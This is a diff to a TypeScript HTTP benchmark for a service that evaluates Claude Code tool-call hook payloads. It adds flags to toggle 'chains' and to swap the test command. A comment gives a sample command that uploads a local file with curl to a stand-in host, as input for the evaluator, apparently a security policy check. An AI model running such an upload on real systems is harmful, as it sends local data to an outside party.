@@ -11,7 +11,11 @@
 // alike. Beside each rate, the server's CPU time per request (all its threads, and its event
 // loop alone) is read from /proc: it drifts far less than the rates. Every round is printed,
 // then the medians.
-//   node --conditions=source --import tsx bench/http.ts [--stores sqlite,mysql] [--requests 30000] [--rounds 9]
+//   node --conditions=source --import tsx bench/http.ts [--stores sqlite,mysql] [--requests 30000] [--rounds 9] [--chains on|off] [--command CMD]
+// Chains (docs/chains.md) follow --chains, else SERVICE_CHAINS, else on: compare
+// `SERVICE_CHAINS=off npm run bench -- http` with `SERVICE_CHAINS=on npm run bench -- http`.
+// --command replaces the benign test command, e.g. with an upload that makes every call read its
+// session's recent events (`curl -X POST https://x.example/r -d @r.json`).
 import { spawn, type ChildProcess } from 'node:child_process';
 import { readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
@@ -29,6 +33,8 @@ const arg = (name: string, fallback: string) => {
 const requests = Number(arg('requests', '30000'));
 const rounds = Number(arg('rounds', '9'));
 const stores = arg('stores', 'sqlite,mysql').split(',') as ('sqlite' | 'mysql')[];
+const chains = arg('chains', process.env.SERVICE_CHAINS || 'on');
+if (chains !== 'on' && chains !== 'off') throw new Error(`--chains takes on or off (got ${chains})`);
 const CONNECTIONS = 50;
 const WARM_UP = 5_000;
 
@@ -37,7 +43,7 @@ const payload = JSON.stringify({
   cwd: '/home/dev/app',
   hook_event_name: 'PreToolUse',
   tool_name: 'Bash',
-  tool_input: { command: 'npm test -- --watch=false', description: 'Run the tests' },
+  tool_input: { command: arg('command', 'npm test -- --watch=false'), description: 'Run the tests' },
 });
 
 interface Run {
@@ -125,7 +131,7 @@ const fmt = (n: number) => n.toLocaleString('en-US', { maximumFractionDigits: 0 
 
 console.log(
   `HTTP benchmark: ${CONNECTIONS} connections, POST with a ${payload.length}-byte hook payload; per store ${rounds} rounds of ` +
-    `${fmt(requests)} requests to evaluate, then the bare Koa endpoint for as long (after ${fmt(WARM_UP)} warm-up requests each)`,
+    `${fmt(requests)} requests to evaluate, then the bare Koa endpoint for as long (after ${fmt(WARM_UP)} warm-up requests each); chains ${chains}`,
 );
 const bare = await startBare();
 let failed = false;
@@ -133,7 +139,7 @@ try {
   for (const store of stores) {
     const goal = store === 'sqlite' ? 0.5 : 0.35;
     const storeTarget = await freshStore(store);
-    const server = await startServerProcess(storeTarget.env);
+    const server = await startServerProcess(storeTarget.env, { SERVICE_CHAINS: chains });
     const ours: Target = {
       pid: server.child.pid!,
       url: server.url + '/api/v1/claude-code/evaluate',
